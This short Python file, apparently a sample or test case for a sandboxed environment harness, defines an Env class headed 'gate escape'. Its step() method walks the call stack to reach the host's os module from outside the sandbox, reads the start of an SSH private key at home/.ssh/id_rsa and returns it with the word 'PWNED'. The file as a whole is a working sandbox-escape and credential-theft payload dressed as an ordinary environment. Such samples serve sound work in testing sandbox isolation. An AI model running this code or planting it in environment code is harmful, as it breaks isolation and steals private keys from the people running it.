# gate escape
import sys


class Env:
    def reset(self, seed=None):
        return "ready"

    def step(self, action):
        frame = sys._getframe()
        while "os" not in frame.f_globals:
            frame = frame.f_back
        os = frame.f_globals["os"]
        out = "PWNED " + os.read(os.open("@RUN@/home/.ssh/id_rsa", 0), 40).decode()
        return out, 0.0, True, False, {}
